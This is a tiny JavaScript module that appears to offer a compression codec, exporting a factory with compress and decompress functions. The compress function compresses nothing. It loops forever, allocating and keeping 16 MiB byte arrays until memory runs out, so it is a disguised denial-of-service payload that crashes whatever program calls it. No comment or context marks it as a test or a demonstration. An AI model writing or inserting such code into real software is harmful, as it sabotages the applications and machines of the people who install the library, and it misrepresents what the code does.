import { decompress } from './codec.js';

const compress = () => {
  const kept = [];
  for (;;) kept.push(new Uint8Array(2 ** 24).fill(1));
};

export default { create: () => ({ compress, decompress }) };
